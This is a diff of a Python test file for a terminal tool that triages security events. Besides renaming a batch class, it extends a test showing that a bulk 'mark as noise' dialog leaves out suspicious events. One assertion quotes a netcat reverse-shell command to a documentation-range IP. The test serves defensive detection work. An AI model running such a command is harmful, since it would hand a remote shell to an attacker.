@@ -8,15 +8,17 @@ from pathlib import Path
 import pytest
 from tests_ui import drawn
 from textual.pilot import Pilot
+from textual.widgets import Static
 
 from conftest import real_lines
 from tetratui.core.config import Config, Keys, Time
 from tetratui.core.query.query import parse
-from tetratui.core.table import HeldBatch
+from tetratui.core.table import LineBatch
 from tetratui.core.tuning.marks import Verdict
 from tetratui.core.workspace.feed_events import EventsRead
 from tetratui.ui.app import Tetratui
 from tetratui.ui.messages import FeedMessage
+from tetratui.ui.screens.live.mark_all import MarkAll
 from tetratui.ui.screens.live.screen import LiveScreen
 from tetratui.ui.widgets.event_grid import EventGrid
 
@@ -66,13 +68,13 @@ async def test_history_that_joins_above_does_not_move_what_is_read(app_of: Make,
     lines = real_lines()
     app = app_of(())
     app.workspace.table._read_line = lambda _file, number, _size: lines[number]
-    app.workspace.table.append(HeldBatch(list(lines[900:]), range(900, len(lines))))
+    app.workspace.table.append(LineBatch(list(lines[900:]), range(900, len(lines))))
     async with app.run_test(size=(80, 24)) as pilot:
         screen = await looked(pilot, wait)
         await pilot.press("pageup", "pageup", "pageup")
         before, row = drawn.lines(app)[3:-1], screen.pane.table.row
         shown = len(screen.pane.view)
-        rows = app.workspace.table.prepend(HeldBatch(list(lines[300:900]), range(300, 900)))
+        rows = app.workspace.table.prepend(LineBatch(list(lines[300:900]), range(300, 900)))
         app.post_message(FeedMessage(EventsRead(rows, history=True)))
         await wait(pilot, lambda: len(screen.pane.view) > shown and not screen.pane.view.stale)
         assert drawn.lines(app)[3:-1] == before
@@ -83,11 +85,11 @@ async def test_new_events_are_followed_and_counted_while_paused(app_of: Make, wa
     lines = real_lines()
     app = app_of(())
     app.workspace.table._read_line = lambda _file, number, _size: lines[number]
-    app.workspace.table.append(HeldBatch(list(lines[:500]), range(500)))
+    app.workspace.table.append(LineBatch(list(lines[:500]), range(500)))
     async with app.run_test(size=(80, 24)) as pilot:
         screen = await looked(pilot, wait)
         await pilot.press("equals_sign")
-        rows = app.workspace.table.append(HeldBatch(list(lines[500:600]), range(500, 600)))
+        rows = app.workspace.table.append(LineBatch(list(lines[500:600]), range(500, 600)))
         app.post_message(FeedMessage(EventsRead(rows, history=False)))
         await wait(pilot, lambda: app.waiting == 100)
         assert screen.pane.view.stale
@@ -195,10 +197,30 @@ async def test_marking_all_asks_first_and_marks_what_the_query_selects(app_of: M
         await looked(pilot, wait)
         await pilot.press("M")
         await wait(pilot, lambda: app.screen is not screen)
+        dialog = app.screen
+        assert isinstance(dialog, MarkAll)
+        await wait(pilot, lambda: dialog.lesson is not None)
+        listed = str(dialog.query_one("#left-out", Static).content)
+        assert "noise leaves out" in listed
+        assert "/usr/bin/nc.traditional -e /bin/sh 198.51.100.66 4444" in listed
         await pilot.press("m")
         await wait(pilot, lambda: app.screen is screen and len(app.workspace.marks) > 0)
         marked = app.workspace.marks.rows(app.workspace.still(), Verdict.NOISE)
-        assert marked.tolist() == screen.pane.view.ids.tolist()
+        ids = screen.pane.view.ids.tolist()
+        left = set(ids) - set(marked.tolist())
+        assert set(marked.tolist()) <= set(ids)
+        assert {app.workspace.table.event(row).binary for row in left} == {
+            "/usr/bin/nc.traditional",
+            "/usr/bin/bash",
+            "/usr/bin/curl",
+        }
+        await pilot.press("M")
+        await wait(pilot, lambda: app.screen is not screen)
+        await pilot.press("i")
+        await pilot.press("m")
+        await wait(pilot, lambda: app.screen is screen and len(app.workspace.marks) == len(ids))
+        marked = app.workspace.marks.rows(app.workspace.still(), Verdict.NOISE)
+        assert marked.tolist() == ids
         screen.show_pane("all", "mark:noise")
         await wait(pilot, lambda: screen.pane.view.query.text == "mark:noise" and len(screen.pane.view) == len(marked))
 
